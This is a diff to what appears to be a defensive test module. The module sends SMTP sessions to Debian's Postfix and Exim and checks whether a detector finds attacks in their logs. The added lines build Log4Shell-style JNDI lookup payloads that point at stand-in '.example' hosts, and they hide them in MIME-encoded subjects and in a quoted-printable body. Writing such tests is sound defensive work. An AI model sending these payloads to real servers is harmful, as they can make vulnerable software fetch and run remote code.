@@ -1,4 +1,5 @@
 """Postfix and Exim as Debian ships them: attacks in every part of an SMTP session that they log."""
+import email.header
 import pathlib
 import re
 import shutil
@@ -131,6 +132,17 @@ def sessions(new):
         s, p = begin({"message", "smtp.command"}, template)
         s.say(b"EHLO x.example", b"MAIL FROM: " + p)
         yield s
+    # Longer than Postfix logs of a header, so that the brace may be missing: its log shows 200 bytes.
+    for encode in (lambda t: email.header.Header(t, "utf-8", maxlinelen=60).encode().replace("\n", "\r\n"),
+                   lambda t: "=?utf-8?q?" + "".join("=%02X" % b for b in t.encode()) + "?="):
+        s, p = begin({"email.subject", "message"}, "${jndi:dns://%s.example/a}")
+        s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
+        s.letter(b"Subject: " + encode(p.decode()).encode(), body=b"see below")
+        yield s
+    s, p = begin({"email.body"})
+    s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
+    s.letter(b"Subject: a", body=b"jndi " + p.replace(b"$", b"=24").replace(b"{", b"=7B"))
+    yield s
     s, p = begin({"email.subject", "message"}, "\\u0024{jndi:ldap://%s.example/a}")
     s.say(b"EHLO x.example", b"MAIL FROM:<a@x.example>", b"RCPT TO:<b@shop.example>")
     s.letter(b"Subject: a", b" folded\t" + p)
@@ -167,6 +179,7 @@ class Mail(server_case.Case):
         server.run("chown", "-R", "postfix", "/var/lib/postfix")
         server.start("postfix", "start-fg", port=25)
         sent = let_all_talk("p")
+        server.run("postfix", "stop", stderr=server.said) # its master lives on otherwise
         server.stop()
         look(self, CALTROP, server.path("/var/log/maillog"), sent, "postfix", least=20, grades=("exploit", "reach"))  # "?" for quotes makes a name a query
 
